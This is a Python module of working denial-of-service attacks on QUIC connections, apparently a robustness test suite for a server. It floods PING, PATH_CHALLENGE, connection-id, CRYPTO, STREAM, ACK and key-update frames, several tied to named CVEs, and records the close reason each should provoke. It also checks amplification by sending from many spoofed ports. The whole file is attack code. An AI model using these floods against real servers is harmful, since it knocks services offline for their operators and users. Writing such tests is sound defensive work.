"""Floods of QUIC frames on one connection."""

import os
import socket
import time

from aioquic import tls
from aioquic.quic.connection import QuicConnectionId
from attack import Attack
from flooder import ADDRESS, Flooder, flood, packed
from peer import (
    crypto, datagram, max_data, max_stream_data, new_connection_id, request, retire_connection_id, stream, varint,
)


def ack(*numbers):
    """ACK of single packets, from the newest to the oldest (RFC 9000 section 19.3)."""
    gaps = [newer - older - 2 for newer, older in zip(numbers, numbers[1:])]
    ranges = b"".join(varint(gap) + varint(0) for gap in gaps)
    return b"\x02" + varint(numbers[0]) + varint(0) + varint(len(gaps)) + varint(0) + ranges


def counted(step, start=0):
    """A counter for frames that need a number."""
    value = start

    def following():
        nonlocal value
        value += step
        return value

    return following


def numbered(frame, step, start=0, **arguments):
    """An attack by frames with numbers that grow."""

    def act(url, until):
        following = counted(step, start)
        return flood(lambda _: frame(following()), **arguments)(url, until)

    return act


def endless_crypto(url, until):
    """A TLS message of 16 MiB, of which every byte comes."""
    header, part = b"\x04\xff\xff\xff", bytes(1000)
    offset = 0

    def following(_):
        nonlocal offset
        data = part if offset else header
        offset += len(data)
        return crypto(offset - len(data), data)

    return flood(following, full=False)(url, until)


def stream_gaps(url, until):
    """Each byte of a stream but every other one."""
    peer = Flooder(url)
    window = peer.quic._remote_max_stream_data_bidi_remote
    at = {"stream": 0, "offset": 1}

    def one():
        if at["offset"] >= window:
            at.update(stream=at["stream"] + 4, offset=1)
        if at["stream"] * window // 4 > peer.quic._remote_max_data - window:
            return None
        at["offset"] += 2
        return stream(at["stream"], b"x", at["offset"] - 2)

    return peer.flood(packed(one), until)


def stream_gaps_everywhere(url, until):
    """On each of many connections some 6000 bytes with gaps, fewer than one may have."""
    peers = [Flooder(url) for _ in range(150)]
    for peer in peers:
        following = counted(2, 1)
        frames = packed(lambda: stream(0, b"x", following()))
        for _ in range(40):
            peer.put(frames())
        peer.poll()
    found = [peer.end() for peer in peers]
    reasons = {peer.quic._close_event.reason_phrase for peer in peers if peer.close_frame() is not None}
    closed = next((each for each in found if each["close"] is not None), found[0])
    return closed | {"reasons": ", ".join(reasons)}


def unacknowledged(url, until):
    """PATH_CHALLENGE frames at a pace at which none is dropped; the responses are not acknowledged."""
    peer = Flooder(url, acknowledges=False)
    return peer.flood(lambda: b"\x1a" + os.urandom(8), until, burst=2, pause=0.001, enough=lambda: False)


# Ids that are retired one after the other, at least.
ENOUGH_RETIRED = 10


def retired_ids(url, until):
    """Each id is retired as soon as the next one is there."""
    peer = Flooder(url)
    ids = {found.sequence_number: found.cid for found in peer.quic._peer_cid_available}
    handlers = peer.quic._QuicConnection__frame_handlers
    retired = 0

    def on_new_id(_, kind, buffer):
        sequence, _ = buffer.pull_uint_var(), buffer.pull_uint_var()
        ids[sequence] = buffer.pull_bytes(buffer.pull_uint8())
        buffer.pull_bytes(16)

    handlers[0x18] = (on_new_id, handlers[0x18][1])

    def newest():
        nonlocal retired
        last = max(ids)
        if retired >= last:
            return None
        frames = b"".join(map(retire_connection_id, range(retired, last)))
        peer.quic._peer_cid.cid, retired = ids[last], last
        return frames

    return peer.flood(newest, until, enough=lambda: retired > ENOUGH_RETIRED) | {"retired": retired}


def number_gaps(url, until):
    """Every other packet number is left out: the ACKs of the server have many ranges, and none is acknowledged."""
    peer = Flooder(url, acknowledges=False)

    def ping():
        peer.quic._packet_number += 1
        return b"\x01" + bytes(2)

    return peer.flood(ping, until)


def optimistic_ack(url, until):
    """Acknowledges a download faster than it comes."""
    peer = Flooder(url, acknowledges=False)
    peer.put(peer.open(request("/stream/50000000?checksum=off"), fin=True) + max_stream_data(0, 1 << 40))
    following = counted(10, 200)
    return peer.flood(lambda: ack(following()), until, burst=1, pause=0.001)


def ack_ranges(url, until):
    """250 ranges in each ACK, all of packets that have come."""
    peer = Flooder(url)
    # Keeps the numbers of what has come also when the server knows that they were acknowledged.
    received = peer.quic._spaces[tls.Epoch.ONE_RTT].ack_queue
    received.subtract = lambda *_: None
    peer.put(peer.open(request("/stream/3000000?checksum=off"), fin=True) + max_stream_data(0, 1 << 40))
    peer.wait("500 packets", lambda: peer.poll() and sum(map(len, received)) >= 500)
    numbers = [number for found in received for number in found]
    frames = ack(*numbers[::-2][:250]) + b"\x01"
    return peer.flood(lambda: frames, until)


def new_ids(url, until):
    """Each connection id retires the one before, and that is never acknowledged."""
    peer = Flooder(url, acknowledges=False)
    # The server repeats what is not acknowledged, and aioquic takes an id that is retired twice for an error.
    handlers = peer.quic._QuicConnection__frame_handlers
    handlers[0x19] = (lambda _, kind, buffer: buffer.pull_uint_var(), handlers[0x19][1])
    following = counted(1, 50)

    def one():
        sequence = following()
        cid = sequence.to_bytes(8, "big")
        peer.quic._host_cids.append(QuicConnectionId(cid=cid, sequence_number=sequence))
        return new_connection_id(sequence, sequence, cid)

    return peer.flood(packed(one), until)


def key_updates(url, until):
    """A key update as soon as the one before is acknowledged."""
    peer = Flooder(url)
    updates = 0
    while time.monotonic() < until and peer.close_frame() is None:
        peer.quic.request_key_update()
        peer.settle()
        updates += 1
    return peer.end() | {"updates": updates}


def many_addresses(url, until):
    """Each packet comes from another port, and no challenge is answered."""
    peer = Flooder(url)
    sockets = []
    for _ in range(300):
        other = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        other.bind((ADDRESS, 0))
        other.connect(peer.peer)
        sockets.append(other)
    sent = 0
    while time.monotonic() < until and peer.poll():
        for other in sockets:
            other.send(peer.short(b"\x01" + bytes(1100)))
            sent += 1
    came = 0
    for other in sockets:
        other.settimeout(0)
        try:
            while True:
                came += len(other.recv(65536))
        except OSError:
            other.close()
    return peer.end() | {"amplified": came > 3 * sent * 1100}


ATTACKS = [
    Attack("ping", "1100 PING frames in each packet", flood(lambda _: b"\x01" * 1100, full=False)),
    Attack("ping-packets", "a PING in each packet", flood(lambda _: b"\x01" + bytes(2), full=False)),
    Attack(
        "path-challenge", "120 PATH_CHALLENGE in each packet (CVE-2023-6193)",
        flood(lambda _: b"\x1a" + os.urandom(8)),
    ),
    Attack(
        "path-challenge-unacknowledged", "the same, and the responses are not acknowledged",
        # quiche cannot always send a close to one that acknowledges nothing.
        unacknowledged, found={"cut_off": 1},
    ),
    Attack(
        "new-connection-id", "ids that retire the one before, never acknowledged (CVE-2024-1410, CVE-2024-22189)",
        new_ids, close="CONNECTION_ID_LIMIT_ERROR",
    ),
    Attack(
        "retire-connection-id", "each id is retired as soon as there is another (CVE-2025-7054)", retired_ids,
        found={"retired": lambda count: count > ENOUGH_RETIRED},
    ),
    Attack(
        "retire-again", "500 times the same RETIRE_CONNECTION_ID in each packet",
        flood(lambda _: retire_connection_id(1) * 500, full=False),
    ),
    Attack(
        "stream-gaps", "STREAM frames of one byte with gaps (RUSTSEC-2026-0185)", stream_gaps,
        close="H3_EXCESSIVE_LOAD", memory=8, seconds=5,
    ),
    Attack(
        "stream-gaps-everywhere", "the same on many connections, each within the limit of one", stream_gaps_everywhere,
        close="H3_EXCESSIVE_LOAD", memory=160, quick=False, seconds=5,
        found={"reasons": lambda reasons: "too many small pieces of streams that cannot be read on all connections" in reasons},
    ),
    Attack(
        "crypto-gaps", "CRYPTO frames of one byte with gaps on an open connection (RUSTSEC-2026-0185)",
        numbered(lambda n: crypto(n % 60_000, b"x"), 2, 1), memory=8, close="H3_EXCESSIVE_LOAD", seconds=5,
    ),
    Attack(
        "endless-crypto", "a TLS message that does not end (CVE-2024-1765)", endless_crypto,
        close="PROTOCOL_VIOLATION",
    ),
    Attack(
        "optimistic-ack", "ACK of packets before they were sent (CVE-2025-4820)", optimistic_ack,
        close="PROTOCOL_VIOLATION",
    ),
    Attack("packet-number-gaps", "packets with gaps in their numbers, whose ACKs are not acknowledged", number_gaps,
           memory=16),
    Attack("ack-ranges", "ACK frames with 250 ranges", ack_ranges),
    Attack(
        "blocked-frames", "DATA_BLOCKED and STREAMS_BLOCKED",
        flood(lambda _: b"\x14" + varint(1 << 30) + b"\x16" + varint(1 << 20) + b"\x17" + varint(1 << 20)),
    ),
    Attack(
        "limit-frames", "MAX_DATA and MAX_STREAMS that grow",
        numbered(lambda n: max_data((1 << 51) + n) + b"\x12" + varint(1000 + n) + b"\x13" + varint(1000 + n), 1),
    ),
    Attack("key-update", "one key update after the other", key_updates),
    Attack(
        "many-addresses", "each packet from another port, no path is validated", many_addresses,
        found={"amplified": False},
    ),
    Attack(
        "datagrams-of-no-session", "45 DATAGRAM frames of no session in each packet",
        flood(lambda _: datagram(varint(1) + b"x" * 19)),
    ),
]
